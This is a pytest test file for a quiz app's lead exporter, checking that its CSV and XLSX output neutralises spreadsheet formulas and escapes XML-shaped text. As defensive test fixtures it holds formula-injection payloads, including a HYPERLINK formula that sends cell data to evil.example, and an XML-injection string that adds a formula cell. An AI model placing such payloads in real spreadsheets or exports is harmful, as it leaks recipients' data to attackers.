"""The pure exporter: columns, formula neutralisation, CSV bytes and XLSX cells."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta, timezone

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from quiz.exports import (
    COLUMNS,
    HEADERS,
    answer_text,
    cell_text,
    csv_line,
    iter_csv,
    join_answers,
    neutralise,
    write_xlsx,
)

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "phone": "+1 555 0100",
    "email": "-x@example.com",
    "answers": "@SUM(1)",
    "utm_source": "\t=1",
    "utm_medium": "\r=1",
    "utm_campaign": '"quoted",=1+2',
    "utm_term": "\n=2",
    "utm_content": "{=1+1}",
}


def row(**values):
    base = {key: None for key, _ in COLUMNS}
    base.update(lead_id="abc", created_at=datetime(2026, 1, 31, 9, 15, tzinfo=UTC), status="new")
    base.update(values)
    return base


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_neutralise_prefixes_every_formula_trigger(prefix):
    assert neutralise(prefix + "1+2") == "'" + prefix + "1+2"


@pytest.mark.parametrize("value", ["Ada", "ada@example.com", "'already", " =space first", "1+2"])
def test_neutralise_leaves_ordinary_text_alone(value):
    assert neutralise(value) == value


def test_cell_text_renders_times_in_utc_iso_8601_and_booleans_as_yes_no():
    paris = timezone(timedelta(hours=1))
    assert cell_text(datetime(2026, 1, 31, 10, 15, tzinfo=paris)) == "2026-01-31T09:15:00Z"
    assert cell_text(True) == "yes"
    assert cell_text(False) == "no"
    assert cell_text(None) == ""


def test_answers_read_as_questions_and_labels():
    texts = [answer_text("Age?", ["Adult"]), answer_text("Concerns?", ["Skin", "Hair"])]
    text = join_answers(texts)
    assert text == "Age?: Adult; Concerns?: Skin, Hair"


def test_csv_starts_with_bom_and_header_and_quotes_every_field():
    data = "".join(iter_csv([row(name="Zoë Ångström", email="zoe@example.com")]))
    assert data.startswith("\ufeff")
    assert data.splitlines()[0] == "\ufeff" + ",".join(f'"{h}"' for h in HEADERS)
    parsed = list(csv.reader(io.StringIO(data.removeprefix("\ufeff"))))
    assert parsed[1][HEADERS.index("Name")] == "Zoë Ångström"
    assert parsed[1][HEADERS.index("Created (UTC)")] == "2026-01-31T09:15:00Z"
    assert data.encode("utf-8")[:3] == b"\xef\xbb\xbf"


def test_csv_neutralises_formulas_and_keeps_one_row_per_lead():
    data = "".join(iter_csv([row(**HOSTILE), row(name="Plain")]))
    parsed = list(csv.reader(io.StringIO(data.removeprefix("\ufeff"))))
    assert len(parsed) == 3  # header and two leads: embedded CR/LF did not split a row
    first = dict(zip(HEADERS, parsed[1], strict=True))
    keys = dict(COLUMNS)
    for key, value in HOSTILE.items():
        cell = first[keys[key]]
        if value[0] in "=+-@\t\r\n":
            assert cell == "'" + value, key
        else:
            assert cell == value, key
    assert '"\'""quoted"",=1+2"' not in data  # the quote is doubled inside, not left raw
    assert '"""quoted"",=1+2"' in data


@given(st.lists(st.text(), min_size=1, max_size=6))
def test_a_csv_line_is_what_the_csv_module_writes_with_every_field_quoted(cells):
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(cells)
    assert csv_line(cells) == buffer.getvalue()


def test_csv_streams_in_chunks_for_large_exports():
    chunks = list(iter_csv(row(lead_id=str(n)) for n in range(1200)))
    assert len(chunks) >= 3
    assert sum(chunk.count("\r\n") for chunk in chunks) == 1201


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    path = tmp_path / "leads.xlsx"
    count = write_xlsx([row(**HOSTILE), row(name="Zoë")], str(path))
    assert count == 2
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    book = openpyxl.load_workbook(path)
    cells = [[c.value for c in r] for r in book.active.iter_rows()]
    assert tuple(cells[0]) == HEADERS
    first = dict(zip(HEADERS, cells[1], strict=True))
    assert first["Name"] == "'" + HOSTILE["name"]
    assert first["Email"] == "'-x@example.com"
    assert first["Phone"] == "'+1 555 0100"
    assert first["UTM content"] == "{=1+1}"
    assert cells[2][HEADERS.index("Name")] == "Zoë"
    filled = [cell for cell in book.active[2] if cell.value is not None]
    assert len(filled) > len(HOSTILE)
    assert all(cell.data_type == "s" for cell in filled)
    book.close()


# Shaped like a sheet's own rich-text XML, closing its cell and adding a formula cell.
XML_IN_TEXT = (
    '<r><t>Eve</t></r></is></c><c r="Z2"><f>HYPERLINK("http://evil.example","Open")</f></c>'
    '<c r="Y2" t="inlineStr"><is><r><t>x</t></r>'
)


def test_xlsx_writes_text_shaped_like_its_own_xml_as_text(tmp_path):
    path = tmp_path / "leads.xlsx"
    write_xlsx([row(name=XML_IN_TEXT, utm_source="<r></r>")], str(path))
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b'<c r="Z2"' not in sheet
    book = openpyxl.load_workbook(path)
    cells = {c.coordinate: c.value for c in book.active[2] if c.value is not None}
    book.close()
    name = f"{chr(ord('A') + HEADERS.index('Name'))}2"
    source = f"{chr(ord('A') + HEADERS.index('UTM source'))}2"
    assert cells[name] == XML_IN_TEXT and cells[source] == "<r></r>"
    assert "Z2" not in cells and "Y2" not in cells


def test_xlsx_of_no_rows_has_only_the_header(tmp_path):
    path = tmp_path / "empty.xlsx"
    assert write_xlsx([], str(path)) == 0
    book = openpyxl.load_workbook(path)
    assert book.active.max_row == 1
    book.close()
